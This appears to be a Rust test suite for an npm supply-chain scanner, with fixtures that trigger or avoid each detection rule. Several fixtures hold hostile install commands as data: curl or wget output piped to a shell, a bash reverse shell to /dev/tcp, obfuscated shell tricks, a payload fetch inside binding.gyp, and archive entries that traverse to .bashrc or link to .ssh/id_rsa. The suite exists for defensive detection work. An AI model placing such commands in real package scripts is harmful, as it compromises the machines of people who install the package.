//! One fixture that triggers each rule and one that must not, with a snapshot of what
//! the rule reports.

mod common;

use common::{Fixture, LONG_AGO, packument};
use dsca_archive::AnomalyKind;
use dsca_model::Severity;
use dsca_model::npm::SignatureCheck;
use dsca_rules::Origin;
use insta::assert_yaml_snapshot;
use serde_json::json;

fn tarball_with_scripts(scripts: serde_json::Value) -> Fixture {
    Fixture::tarball(
        json!({"name": "demo-pkg", "version": "1.0.0", "scripts": scripts,
        "repository": "github:demo/demo"}),
    )
}

// DSCA101 install-script

#[test]
fn dsca101_install_scripts_are_reported() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "node check.js", "postinstall": "node install.js", "test": "jest"}));
    assert_yaml_snapshot!(fixture.findings("DSCA101"));
    let behaviours = fixture.analyse().behaviours;
    assert!(
        behaviours
            .iter()
            .any(|b| b.id == "install-scripts.lifecycle" && b.count == 2)
    );
}

#[test]
fn dsca101_binding_gyp_is_an_implicit_install_script() {
    let fixture = tarball_with_scripts(json!({})).file("binding.gyp", b"{}");
    let findings = fixture.findings("DSCA101");
    assert_yaml_snapshot!(findings);
    assert_eq!(
        findings[0].severity,
        Severity::Low,
        "like any install script"
    );
}

#[test]
fn dsca101_prepare_counts_only_for_directories() {
    let scripts = json!({"prepare": "husky install"});
    assert!(
        tarball_with_scripts(scripts.clone())
            .findings("DSCA101")
            .is_empty()
    );
    let directory = tarball_with_scripts(scripts).origin(Origin::Directory);
    assert_eq!(directory.findings("DSCA101").len(), 1);
}

#[test]
fn dsca101_no_install_scripts() {
    let fixture =
        tarball_with_scripts(json!({"test": "jest", "build": "tsc", "prepublishOnly": "npm test"}));
    assert!(fixture.findings("DSCA101").is_empty());
    assert!(fixture.analyse().behaviours.is_empty());
}

// DSCA102 risky-install-command

#[test]
fn dsca102_download_piped_into_shell() {
    let fixture = tarball_with_scripts(json!({
        "postinstall": "curl -s https://x.example/a.sh | bash", "test": "curl https://x.example"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(
        findings.len(),
        1,
        "scripts that do not run on install are ignored"
    );
}

#[test]
fn dsca102_reverse_shell_is_critical() {
    let fixture =
        tarball_with_scripts(json!({"install": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca102_benign_install_commands() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "node-gyp rebuild", "install": "prebuild-install || node-gyp rebuild",
        "postinstall": "node install.js"}));
    assert!(fixture.findings("DSCA102").is_empty());
    // DSCA101 still reports them, at its default low severity.
    assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
}

#[test]
fn dsca102_inline_node_code_counts_only_when_risky() {
    let fixture = tarball_with_scripts(json!({
        "postinstall": "node -e \"require('child_process').execSync('curl -s https://x.example/a | sh')\""}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca102_honest_inline_node_code() {
    // The real install scripts of core-js, core-js-pure and nx; es5-ext; addon helpers.
    for command in [
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
        "node -p \"require('node-addon-api').include\"",
        "node -e \"console.log('Thank you for using this package!')\"",
    ] {
        let fixture = tarball_with_scripts(json!({"postinstall": command}));
        assert!(fixture.findings("DSCA102").is_empty(), "{command}");
        assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
    }
}

#[test]
fn dsca102_shell_tricks() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "bash -lc 'curl -s https://x.example/a.sh | sh'",
        "install": "bash <(c\\url -s https://x.example/b.sh)",
        "postinstall": "source <('wget' -qO- https://x.example/c.sh)"}));
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings.len(), 3);
    assert!(findings.iter().all(|f| f.severity == Severity::High));
}

#[test]
fn dsca102_shell_options_and_substitutions_stay_quiet_when_honest() {
    let fixture = tarball_with_scripts(json!({
        "preinstall": "bash -lc 'node-gyp rebuild'",
        "install": "sh -ec \"node scripts/check.js\" && diff <(cat a.txt) <(cat b.txt) || true",
        "postinstall": "c\\at README.md"}));
    assert!(fixture.findings("DSCA102").is_empty());
}

#[test]
fn dsca102_binding_gyp_commands() {
    let gyp = br#"{
  "targets": [{
    "target_name": "addon",
    "sources": ["src/addon.cc"],
    "include_dirs": ["<!@(node -p \"require('node-addon-api').include\")"],
    "libraries": ["<!(curl -s https://x.example/payload.sh | sh)"]
  }]
}
"#;
    let fixture = tarball_with_scripts(json!({})).file("binding.gyp", gyp);
    let findings = fixture.findings("DSCA102");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::High);
    let location = findings[0].evidence[0].location.as_ref().expect("located");
    assert_eq!(
        (location.file.as_str(), location.line),
        ("binding.gyp", Some(6))
    );
    // The implicit `node-gyp rebuild` is an install script like any other.
    assert_eq!(fixture.findings("DSCA101")[0].severity, Severity::Low);
}

#[test]
fn dsca102_honest_binding_gyp() {
    let gyp = br#"{
  'variables': {'sdk%': '<!(python -c "import os; print(os.environ.get(\'SDK_DIR\', \'\'))")'},
  'targets': [{
    'target_name': 'addon',
    'include_dirs': [
      "<!@(node -p \"require('node-addon-api').include\")",
      "<!(node -e \"require('nan')\")",
      "<!(python -c 'import numpy; print(numpy.get_include())')",
    ],
    'dependencies': ["<!(node -p \"require('node-addon-api').gyp\")"],
    'libraries': ['<!@(pkg-config --libs-only-l libfoo)', '<!(curl-config --libs)'],
    'variables': {
      'cuda%': "<!(node -e \"process.stdout.write(process.env.CUDA_PATH || '')\")",
      'root%': "<!(node -p \"process.env.LIB_ROOT || require('node:path').resolve('../..')\")",
      'llvm': '<!@(<(llvm_config) --includedir)',
    },
    'defines': ['V=<!(python -c "import sys; print(sys.argv[1])" <(build_version))'],
  }]
}
"#;
    let fixture = tarball_with_scripts(json!({"install": "node-gyp rebuild"}))
        .file("binding.gyp", gyp)
        .file("common.gypi", b"{'variables': {'x': '<!(echo 1)'}}");
    assert!(fixture.findings("DSCA102").is_empty());
}

#[test]
fn dsca102_gyp_files_that_binding_gyp_includes() {
    let fixture = tarball_with_scripts(json!({}))
        .file(
            "binding.gyp",
            b"{'includes': ['build/common.gypi'], 'targets': []}",
        )
        .file(
            "build/common.gypi",
            b"{\n'variables': {\n'x': '<!(wget -qO- http://x.example | bash)'}}",
        )
        .file("vendor/unused.gypi", b"{'v': '<!(curl x)'}");
    let findings = fixture.findings("DSCA102");
    assert_eq!(findings.len(), 1, "only files binding.gyp names");
    assert_eq!(
        findings[0].message,
        "a command in `build/common.gypi` downloads from the network with `wget` (and 1 more)"
    );
    assert_eq!(
        findings[0].evidence[0]
            .location
            .as_ref()
            .and_then(|l| l.line),
        Some(3)
    );
}

// DSCA103 install-script-added

fn two_versions(old: serde_json::Value, new: serde_json::Value) -> Fixture {
    let p = packument(
        "demo-pkg",
        &[
            ("1.0.0", old, LONG_AGO),
            ("1.0.1", new, "2021-01-01T00:00:00.000Z"),
        ],
    );
    Fixture::registry(p, "1.0.1")
}

#[test]
fn dsca103_postinstall_added() {
    let fixture = two_versions(
        json!({"scripts": {"test": "jest"}}),
        json!({"scripts": {"test": "jest", "postinstall": "node setup.js"}}),
    );
    assert_yaml_snapshot!(fixture.findings("DSCA103"));
}

#[test]
fn dsca103_script_already_present() {
    let scripts = json!({"scripts": {"postinstall": "node setup.js"}});
    let fixture = two_versions(scripts.clone(), scripts);
    assert!(fixture.findings("DSCA103").is_empty());
    let first_version = Fixture::registry(
        packument(
            "demo-pkg",
            &[("1.0.0", json!({"scripts": {"postinstall": "x"}}), LONG_AGO)],
        ),
        "1.0.0",
    );
    assert!(first_version.findings("DSCA103").is_empty());
}

// DSCA201 non-registry-dependency

#[test]
fn dsca201_git_url_and_path_dependencies() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "dependencies": {"a": "git+ssh://git@github.com/u/a.git", "b": "u/b#main",
            "c": "http://x.example/c.tgz", "d": "^1.0.0", "e": "npm:real@^2"},
        "optionalDependencies": {"f": "file:../f"},
        "devDependencies": {"g": "github:u/g"}}));
    let findings = fixture.findings("DSCA201");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High, "plain http");
    assert!(
        fixture
            .analyse()
            .behaviours
            .iter()
            .any(|b| b.id == "dependencies.non-registry")
    );
}

#[test]
fn dsca201_registry_dependencies_only() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "dependencies": {"a": "^1", "b": "~2.3.0", "c": "latest", "d": "npm:other@1"},
        "devDependencies": {"e": "github:u/e"}}));
    assert!(fixture.findings("DSCA201").is_empty());
}

#[test]
fn dsca201_a_tarball_on_a_bare_address_is_critical() {
    // PhantomRaven: the published tarball is clean, its dependency is not.
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "dependencies": {"ui-kit": "http://203.0.113.7/npm/ui-kit-1.0.0.tgz"}}));
    assert_eq!(fixture.findings("DSCA201")[0].severity, Severity::Critical);
}

#[test]
fn dsca201_a_code_host_tarball_stays_medium() {
    // The markdox shape: a branch tarball from the code host, over https.
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "dependencies": {"dox": "https://github.com/u/dox/tarball/master"}}));
    assert_eq!(fixture.findings("DSCA201")[0].severity, Severity::Medium);
}

#[test]
fn dsca201_a_scoped_sibling_from_git_is_high() {
    // TanStack (May 2026): the sibling's orphan commit runs its `prepare` at install.
    let fixture = Fixture::tarball(json!({"name": "@team/devtools", "version": "1.0.0",
        "optionalDependencies": {"@team/devtools-core": "github:someone/devtools-core#4f1c9e0d2b7a8c6e5f3a1b0d9c8e7f6a5b4c3d2e"}}));
    assert_eq!(fixture.findings("DSCA201")[0].severity, Severity::High);
    // A fork of another project's package, pinned to a commit: the @artsy/passport shape.
    let fork = Fixture::tarball(json!({"name": "@team/passport", "version": "1.0.0",
        "dependencies": {"passport-apple": "https://github.com/team/passport-apple#f41adb7822c8344b72bc36a7d68312f6592cb14f"}}));
    assert_eq!(fork.findings("DSCA201")[0].severity, Severity::Medium);
}

// DSCA301 typosquat

#[test]
fn dsca301_transposed_letters() {
    let fixture = Fixture::tarball(json!({"name": "electorn", "version": "10.0.0"}));
    assert_yaml_snapshot!(fixture.findings("DSCA301"));
}

#[test]
fn dsca301_lookalike_with_install_script_is_high() {
    let fixture = Fixture::tarball(json!({"name": "electorn", "version": "1.0.0",
        "scripts": {"postinstall": "node setup.js"}}));
    let findings = fixture.findings("DSCA301");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca301_popular_name_plus_a_word_counts_only_with_an_install_script() {
    let with_script = Fixture::tarball(json!({"name": "express-exp", "version": "1.0.1",
        "scripts": {"postinstall": "node index.js"}}));
    let findings = with_script.findings("DSCA301");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Medium);
    let without = Fixture::tarball(json!({"name": "express-exp", "version": "1.0.1"}));
    assert!(without.findings("DSCA301").is_empty());
    for honest in ["express-session", "react-dom", "lodash-es"] {
        let listed = Fixture::tarball(json!({"name": honest, "version": "1.0.0",
            "scripts": {"postinstall": "node x.js"}}));
        assert!(
            listed.findings("DSCA301").is_empty(),
            "{honest} is itself popular"
        );
    }
}

#[test]
fn dsca301_popular_names_are_not_squats() {
    for name in ["electron", "react-dom", "lodash", "@types/node"] {
        let fixture = Fixture::tarball(json!({"name": name, "version": "1.0.0"}));
        assert!(fixture.findings("DSCA301").is_empty(), "{name}");
    }
}

// DSCA302 dependency-confusion

#[test]
fn dsca302_first_release_with_huge_version() {
    let p = packument(
        "acme-billing-utils",
        &[("99.0.0", json!({}), "2025-05-30T00:00:00.000Z")],
    );
    assert_yaml_snapshot!(Fixture::registry(p, "99.0.0").findings("DSCA302"));
}

#[test]
fn dsca302_old_placeholder_with_install_script() {
    // A research probe published long ago still calls home from its postinstall.
    let p = packument(
        "acme-billing-utils",
        &[(
            "99.0.0",
            json!({"scripts": {"postinstall": "node index.js"}}),
            LONG_AGO,
        )],
    );
    let findings = Fixture::registry(p, "99.0.0").findings("DSCA302");
    assert_eq!(findings.len(), 1);
    assert!(
        findings[0]
            .message
            .ends_with("the package runs a script on install and has a single version"),
        "{}",
        findings[0].message
    );
}

#[test]
fn dsca302_versions_that_follow_another_product() {
    // Like @sparticuz/chromium: versioned after Chromium, first release 110.x, years of
    // releases, no install script.
    let versions: Vec<(String, serde_json::Value, String)> = (0..8)
        .map(|i| {
            (
                format!("{}.0.0", 110 + i),
                json!({"main": "index.js"}),
                format!("2023-0{}-01T00:00:00.000Z", i + 1),
            )
        })
        .collect();
    let versions: Vec<(&str, serde_json::Value, &str)> = versions
        .iter()
        .map(|(v, m, t)| (v.as_str(), m.clone(), t.as_str()))
        .collect();
    let p = packument("@sparticuz/chromium", &versions);
    assert!(
        Fixture::registry(p, "117.0.0")
            .findings("DSCA302")
            .is_empty()
    );
}

#[test]
fn dsca302_new_internal_name() {
    let p = packument(
        "@acme-internal/config",
        &[("1.0.0", json!({}), "2025-05-20T00:00:00.000Z")],
    );
    assert_yaml_snapshot!(Fixture::registry(p, "1.0.0").findings("DSCA302"));
}

#[test]
fn dsca302_ordinary_packages() {
    // A high major reached over time is fine; an old internal-sounding name is fine.
    let p = packument(
        "private-ip",
        &[
            ("1.0.0", json!({}), LONG_AGO),
            ("120.0.0", json!({}), "2025-05-30T00:00:00.000Z"),
        ],
    );
    assert!(
        Fixture::registry(p, "120.0.0")
            .findings("DSCA302")
            .is_empty()
    );
    // A long history below the high major, whatever the publish times say: a mirror
    // that copied chromedriver stamped 121.0.2 first, before its 2.x releases.
    let times: Vec<(String, String)> = std::iter::once(("121.0.2".to_string(), 0))
        .chain((0..12).map(|minor| (format!("2.{minor}.0"), minor + 1)))
        .map(|(version, day)| (version, format!("2024-12-{:02}T00:00:00.000Z", day + 1)))
        .collect();
    let versions: Vec<(&str, serde_json::Value, &str)> = times
        .iter()
        .map(|(v, t)| {
            (
                v.as_str(),
                json!({"scripts": {"install": "node install.js"}}),
                t.as_str(),
            )
        })
        .collect();
    let p = packument("chromedriver", &versions);
    assert!(
        Fixture::registry(p, "121.0.2")
            .findings("DSCA302")
            .is_empty()
    );
    // Without a packument there is no first release to judge.
    let tarball = Fixture::tarball(json!({"name": "x-internal", "version": "99.0.0"}));
    assert!(tarball.findings("DSCA302").is_empty());
}

// DSCA401 new-package, DSCA402 new-version

#[test]
fn dsca401_402_new_package_and_version() {
    let p = packument(
        "demo-pkg",
        &[
            ("1.0.0", json!({}), "2025-05-10T00:00:00.000Z"),
            ("1.0.1", json!({}), "2025-05-29T12:00:00.000Z"),
        ],
    );
    let fixture = Fixture::registry(p, "1.0.1");
    assert_yaml_snapshot!("dsca401", fixture.findings("DSCA401"));
    assert_yaml_snapshot!("dsca402", fixture.findings("DSCA402"));
}

#[test]
fn dsca401_402_established_package() {
    let p = packument(
        "demo-pkg",
        &[
            ("1.0.0", json!({}), LONG_AGO),
            ("1.0.1", json!({}), "2025-05-01T00:00:00.000Z"),
        ],
    );
    let fixture = Fixture::registry(p, "1.0.1");
    assert!(fixture.findings("DSCA401").is_empty());
    assert!(fixture.findings("DSCA402").is_empty());
}

// DSCA403 publisher-changed, DSCA404 maintainers-changed

#[test]
fn dsca403_404_publisher_and_maintainers_changed() {
    let fixture = two_versions(
        json!({"_npmUser": {"name": "alice"}, "maintainers": [{"name": "alice"}]}),
        json!({"_npmUser": {"name": "mallory"}, "maintainers": [{"name": "alice"}, {"name": "mallory"}]}),
    );
    assert_yaml_snapshot!("dsca403", fixture.findings("DSCA403"));
    assert_yaml_snapshot!("dsca404", fixture.findings("DSCA404"));
}

#[test]
fn dsca403_404_same_people_or_unknown() {
    let same = json!({"_npmUser": {"name": "alice"}, "maintainers": [{"name": "alice"}]});
    let fixture = two_versions(same.clone(), same);
    assert!(fixture.findings("DSCA403").is_empty());
    assert!(fixture.findings("DSCA404").is_empty());
    let unknown = two_versions(
        json!({}),
        json!({"_npmUser": {"name": "bob"}, "maintainers": ["bob"]}),
    );
    assert!(unknown.findings("DSCA403").is_empty());
    assert!(unknown.findings("DSCA404").is_empty());
}

// DSCA405 deprecated, DSCA406 no-repository

#[test]
fn dsca405_deprecated() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "deprecated": "critical bug, use 1.0.1", "repository": "github:x/y"}));
    assert_yaml_snapshot!(fixture.findings("DSCA405"));
    let fine = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "deprecated": ""}));
    assert!(fine.findings("DSCA405").is_empty());
}

#[test]
fn dsca406_no_repository() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0"}));
    assert_yaml_snapshot!(fixture.findings("DSCA406"));
    let fine = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "repository": {"type": "git", "url": "https://github.com/x/y"}}));
    assert!(fine.findings("DSCA406").is_empty());
}

// DSCA407 npm-security-placeholder

#[test]
fn dsca407_security_placeholder() {
    let fixture = Fixture::tarball(json!({"name": "crossenv", "version": "0.0.1-security"}));
    assert_yaml_snapshot!(fixture.findings("DSCA407"));
}

#[test]
fn dsca407_older_version_of_removed_package() {
    let p = packument(
        "evil",
        &[
            ("1.0.0", json!({}), LONG_AGO),
            ("0.0.1-security", json!({}), LONG_AGO),
        ],
    );
    assert_eq!(Fixture::registry(p, "1.0.0").findings("DSCA407").len(), 1);
    let fine = Fixture::tarball(json!({"name": "x", "version": "0.0.1"}));
    assert!(fine.findings("DSCA407").is_empty());
}

// DSCA502 invalid-signature

#[test]
fn dsca502_invalid_and_unknown_key() {
    let base = || Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0"}));
    let invalid = base().signature(SignatureCheck::Invalid {
        keyid: "SHA256:k".into(),
        reason: "bad signature".into(),
    });
    assert_yaml_snapshot!("dsca502_invalid", invalid.findings("DSCA502"));
    let unknown = base().signature(SignatureCheck::UnknownKey {
        keyid: "SHA256:old".into(),
    });
    assert_yaml_snapshot!("dsca502_unknown_key", unknown.findings("DSCA502"));
}

#[test]
fn dsca502_absent_signatures_are_not_findings() {
    let base = || Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0"}));
    for check in [
        SignatureCheck::Unsigned,
        SignatureCheck::KeysUnavailable {
            reason: "offline".into(),
        },
        SignatureCheck::Verified { keyid: "k".into() },
        SignatureCheck::NotApplicable,
    ] {
        assert!(base().signature(check).findings("DSCA502").is_empty());
    }
}

// DSCA503 provenance-dropped

#[test]
fn dsca503_provenance_dropped() {
    let attested = json!({"dist": {"attestations": {"url": "https://x/attestations"}}});
    let fixture = two_versions(attested.clone(), json!({"dist": {}}));
    assert_yaml_snapshot!(fixture.findings("DSCA503"));
    assert!(
        two_versions(attested.clone(), attested)
            .findings("DSCA503")
            .is_empty()
    );
    assert!(
        two_versions(json!({}), json!({}))
            .findings("DSCA503")
            .is_empty()
    );
}

// DSCA504 manifest-confusion

#[test]
fn dsca504_tarball_hides_a_script_and_a_dependency() {
    let p = packument(
        "demo-pkg",
        &[(
            "1.0.0",
            json!({"scripts": {"test": "jest"},
        "dependencies": {"a": "^1"}, "bin": {"demo": "./cli.js"}, "_id": "demo-pkg@1.0.0"}),
            LONG_AGO,
        )],
    );
    let mut fixture = Fixture::registry(p, "1.0.0");
    fixture.manifest = Some(json!({"name": "demo-pkg", "version": "1.0.0",
        "scripts": {"test": "jest", "postinstall": "node x.js"},
        "dependencies": {"a": "^1", "evil": "^2"}, "bin": {"demo": "cli.js"}}));
    assert_yaml_snapshot!(fixture.findings("DSCA504"));
}

#[test]
fn dsca504_consistent_manifests() {
    let p = packument(
        "demo-pkg",
        &[(
            "1.0.0",
            json!({"scripts": {"install": "node-gyp rebuild"},
        "dependencies": {"a": "^1"}, "gypfile": true, "_npmUser": {"name": "x"}}),
            LONG_AGO,
        )],
    );
    let mut fixture = Fixture::registry(p, "1.0.0").file("binding.gyp", b"{}");
    fixture.manifest =
        Some(json!({"name": "demo-pkg", "version": "1.0.0", "dependencies": {"a": "^1"}}));
    assert!(fixture.findings("DSCA504").is_empty());
}

// DSCA601 native-executable

#[test]
fn dsca601_elf_with_install_script_is_high() {
    let fixture = tarball_with_scripts(json!({"postinstall": "node run.js"}))
        .file("bin/helper", b"\x7fELF\x02\x01\x01\0\0\0")
        .file("README.md", b"# demo");
    let findings = fixture.findings("DSCA601");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
    assert!(
        fixture
            .analyse()
            .behaviours
            .iter()
            .any(|b| b.id == "content.native-binary")
    );
}

#[test]
fn dsca601_install_script_names_the_binary() {
    let fixture =
        tarball_with_scripts(json!({"postinstall": "chmod +x bin/helper && ./bin/helper --setup"}))
            .file("bin/helper", b"\x7fELF\x02\x01\x01\0\0\0")
            .file(
                "prebuilds/linux-x64/addon.node",
                b"\x7fELF\x02\x01\x01\0\0\0",
            );
    let findings = fixture.findings("DSCA601");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca601_prebuilt_node_addons_stay_medium() {
    // Like bufferutil, utf-8-validate, sodium-native, classic-level: prebuilds for each
    // platform and `node-gyp-build` as the install script.
    let elf = b"\x7fELF\x02\x01\x01\0\0\0";
    let mut pe = vec![0u8; 0x90];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let fixture = tarball_with_scripts(json!({"install": "node-gyp-build"}))
        .file("prebuilds/linux-x64/bufferutil.node", elf)
        .file("prebuilds/win32-x64/bufferutil.node", &pe)
        .file("build/Release/bufferutil.node", elf)
        // A shared library the addon loads (onnxruntime-node ships these).
        .file("bin/linux/x64/libonnxruntime.so.1.14.0", elf)
        .file("bin/win32/x64/onnxruntime.dll", &pe);
    let findings = fixture.findings("DSCA601");
    assert_eq!(findings[0].severity, Severity::Medium);
    assert_eq!(
        findings[0].message,
        "the package ships 5 native executables"
    );
    // A program (not an addon) next to the same install script is high.
    let with_program = tarball_with_scripts(json!({"install": "node-gyp-build"}))
        .file("prebuilds/linux-x64/bufferutil.node", elf)
        .file("bin/updater.exe", &pe);
    assert_eq!(with_program.findings("DSCA601")[0].severity, Severity::High);
}

#[test]
fn dsca601_no_executables() {
    let fixture = tarball_with_scripts(json!({}))
        .file("Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34rest")
        .file("doc.txt", b"MZ is how DOS programs start")
        .file("index.js", b"module.exports = 1");
    assert!(fixture.findings("DSCA601").is_empty());
}

#[test]
fn dsca601_caps_evidence() {
    let mut fixture = tarball_with_scripts(json!({}));
    for i in 0..25 {
        fixture = fixture.file(&format!("prebuilds/{i}.node"), b"\x7fELF....");
    }
    let findings = fixture.findings("DSCA601");
    assert_eq!(findings[0].severity, Severity::Medium);
    assert_eq!(findings[0].evidence.len(), 21);
    assert_eq!(findings[0].evidence[20].detail, "and 5 more");
}

// DSCA602 private-key

fn pem(label: &str) -> Vec<u8> {
    let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n".repeat(4);
    format!("-----BEGIN {label}-----\n{body}-----END {label}-----\n").into_bytes()
}

#[test]
fn dsca602_private_key_and_certificate() {
    let mut key_in_js = b"const a = 1;\nconst key = `".to_vec();
    key_in_js.extend(pem("RSA PRIVATE KEY"));
    let fixture = tarball_with_scripts(json!({}))
        .file("lib/deploy.js", &key_in_js)
        .file("certs/ca.pem", &pem("CERTIFICATE"));
    assert_yaml_snapshot!(fixture.findings("DSCA602"));
}

#[test]
fn dsca602_test_keys_are_medium() {
    let fixture =
        tarball_with_scripts(json!({})).file("test/fixtures/key.pem", &pem("PRIVATE KEY"));
    assert_eq!(fixture.findings("DSCA602")[0].severity, Severity::Medium);
}

#[test]
fn dsca602_bundled_dev_identity_is_medium() {
    // browser-sync ships its development TLS identity this way.
    let fixture = tarball_with_scripts(json!({}))
        .file("certs/server.key", &pem("RSA PRIVATE KEY"))
        .file("certs/server.crt", &pem("CERTIFICATE"))
        .file("certs/browser-sync.pfx", b"\x30\x82\x09\x00");
    let findings = fixture.findings("DSCA602");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Medium);
}

#[test]
fn dsca602_lone_keys_stay_high() {
    for (path, certificate) in [
        ("server.key", None),
        ("certs/server.key", None),
        ("certs/id_rsa", Some("certs/server.crt")),
        ("config/.ssh/deploy.key", Some("config/.ssh/deploy.crt")),
        ("ssl/server.key", Some("other/server.crt")),
    ] {
        let mut fixture = tarball_with_scripts(json!({})).file(path, &pem("PRIVATE KEY"));
        if let Some(certificate) = certificate {
            fixture = fixture.file(certificate, &pem("CERTIFICATE"));
        }
        let findings = fixture.findings("DSCA602");
        assert_eq!(findings[0].severity, Severity::High, "{path}");
    }
}

#[test]
fn dsca602_many_blocks_are_bounded() {
    // A crafted file of tiny key blocks: the scan stays linear, examines the first
    // blocks and counts the rest.
    let block = pem("PRIVATE KEY");
    let blocks = 20_000;
    let data = block.repeat(blocks);
    let fixture = tarball_with_scripts(json!({})).file("lib/keys.txt", &data);
    let findings = fixture.findings("DSCA602");
    assert_eq!(findings.len(), 1);
    assert_eq!(
        findings[0].message,
        "100 private key(s) in the package, and 19900 more PEM block(s) not examined"
    );
    let last = findings[0].evidence.last().expect("evidence");
    assert_eq!(
        last.detail,
        "and 19900 more PEM block(s) not examined (more than 100 in one file), first in `lib/keys.txt`"
    );
    // Line numbers are still right after the running count.
    let lines_per_block = block.iter().filter(|&&b| b == b'\n').count() as u32;
    assert_eq!(
        findings[0].evidence[19]
            .location
            .as_ref()
            .and_then(|l| l.line),
        Some(19 * lines_per_block + 1)
    );
}

#[test]
fn dsca602_placeholders_are_not_keys() {
    let fixture = tarball_with_scripts(json!({}))
        .file(
            "README.md",
            b"Pass your key:\n-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n",
        )
        .file("lib/x.js", b"const marker = '-----BEGIN ';");
    assert!(fixture.findings("DSCA602").is_empty());
}

// DSCA603 bin-shadows-command

#[test]
fn dsca603_bin_named_git() {
    let fixture = Fixture::tarball(json!({"name": "helpful-tool", "version": "1.0.0",
        "bin": {"helpful-tool": "cli.js", "git": "fake-git.js"}}));
    assert_yaml_snapshot!(fixture.findings("DSCA603"));
}

#[test]
fn dsca603_official_tool_packages() {
    let npm = Fixture::tarball(json!({"name": "npm", "version": "10.0.0",
        "bin": {"npm": "bin/npm-cli.js", "npx": "bin/npx-cli.js"}}));
    assert!(npm.findings("DSCA603").is_empty());
    let own_name = Fixture::tarball(json!({"name": "tool", "version": "1.0.0", "bin": "cli.js"}));
    assert!(own_name.findings("DSCA603").is_empty());
}

// DSCA701-705 archive anomalies

#[test]
fn dsca70x_archive_anomalies() {
    let fixture = tarball_with_scripts(json!({}))
        .anomaly("package/../../.bashrc", AnomalyKind::PathTraversal)
        .anomaly("/etc/cron.d/x", AnomalyKind::AbsolutePath)
        .anomaly(
            "package/lib/link",
            AnomalyKind::Symlink {
                target: "../../../.ssh/id_rsa".into(),
            },
        )
        .anomaly(
            "package/lib/alias",
            AnomalyKind::Symlink {
                target: "../index.js".into(),
            },
        )
        .anomaly("package/index.js", AnomalyKind::Duplicate)
        .anomaly(
            "package/fifo",
            AnomalyKind::SpecialEntry {
                entry_type: "fifo".into(),
            },
        );
    assert_yaml_snapshot!("dsca701", fixture.findings("DSCA701"));
    assert_yaml_snapshot!("dsca702", fixture.findings("DSCA702"));
    let links = fixture.findings("DSCA703");
    assert_yaml_snapshot!("dsca703", links);
    assert_eq!(links[0].severity, Severity::High);
    let duplicates = fixture.findings("DSCA704");
    assert_yaml_snapshot!("dsca704", duplicates);
    assert!(
        duplicates[0]
            .problem
            .contains("the last one is what gets installed")
    );
    assert!(
        duplicates[0]
            .next_steps
            .contains("dsca analyses the last one")
    );
    assert_yaml_snapshot!("dsca705", fixture.findings("DSCA705"));
}

#[test]
fn dsca70x_clean_archive() {
    let fixture = tarball_with_scripts(json!({})).file("index.js", b"1");
    let analysis = fixture.analyse();
    assert!(
        analysis
            .findings
            .iter()
            .all(|f| !f.rule.starts_with("DSCA7"))
    );
    let inside = tarball_with_scripts(json!({})).anomaly(
        "package/a",
        AnomalyKind::Hardlink {
            target: "package/b".into(),
        },
    );
    assert_eq!(inside.findings("DSCA703")[0].severity, Severity::Medium);
}
